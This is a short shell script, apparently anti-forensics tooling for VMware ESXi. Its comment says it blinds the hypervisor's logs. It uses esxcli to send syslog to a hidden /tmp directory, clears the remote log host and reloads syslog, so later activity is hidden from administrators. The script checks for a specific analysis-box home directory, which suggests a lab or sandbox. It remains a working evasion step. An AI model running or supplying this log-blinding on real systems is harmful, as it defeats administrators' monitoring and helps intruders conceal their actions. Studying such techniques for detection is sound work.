#!/bin/sh
# SPDX-License-Identifier: MIT
# Blinding a hypervisor's logs: its syslog is pointed at a scratch
# directory and no remote log host, then reloaded, so what follows is kept
# nowhere an administrator looks.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
ESXCLI=/bin/esxcli
$ESXCLI system syslog config set --logdir=/tmp/.scratch --loghost='' 2>/dev/null
$ESXCLI system syslog reload 2>/dev/null
exit 0
